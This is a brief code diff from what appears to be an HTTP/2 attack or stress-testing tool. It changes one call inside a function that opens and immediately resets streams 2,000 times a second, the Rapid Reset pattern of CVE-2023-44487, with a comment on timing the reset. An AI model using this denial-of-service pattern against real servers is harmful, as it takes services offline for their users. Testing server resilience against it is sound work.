@@ -25,7 +25,7 @@ async def resets(target: AttackTarget, observed: Observed) -> None:
     """Open a request and reset it at once, 2,000 times a second (the pattern of CVE-2023-44487)."""
 
     def send(client: Http2Client) -> None:
-        stream = client.request(target, "GET", target.get, end=True)
+        stream = client.ask(target, target.get)
         client.flush()  # a stream that is reset before its HEADERS frame is sent would not be sent at all
         client.reset(stream)
 
